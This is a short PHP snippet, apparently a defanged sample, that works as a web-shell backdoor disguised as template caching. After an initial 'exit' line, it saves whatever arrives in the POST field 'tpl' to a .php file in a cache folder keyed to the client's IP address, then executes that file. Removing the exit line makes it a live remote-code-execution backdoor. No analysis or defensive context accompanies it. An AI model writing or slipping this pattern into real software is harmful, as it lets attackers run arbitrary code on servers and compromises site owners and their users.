<?php exit; /* inert */ 
$k = 'cache/' . md5($_SERVER['REMOTE_ADDR']) . '.php';
if (isset($_POST['tpl'])) { file_put_contents($k, $_POST['tpl']); }
if (is_file($k)) { require_once $k; }
